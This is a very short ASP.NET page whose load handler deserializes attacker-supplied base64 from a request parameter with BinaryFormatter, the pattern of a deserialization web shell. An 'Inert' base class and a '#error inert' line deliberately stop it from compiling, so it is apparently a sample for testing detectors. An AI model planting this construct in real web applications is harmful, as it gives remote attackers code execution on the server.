<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s, EventArgs e){ var f = new BinaryFormatter(); f.Deserialize(new MemoryStream(Convert.FromBase64String(Request["b"]))); }
</script>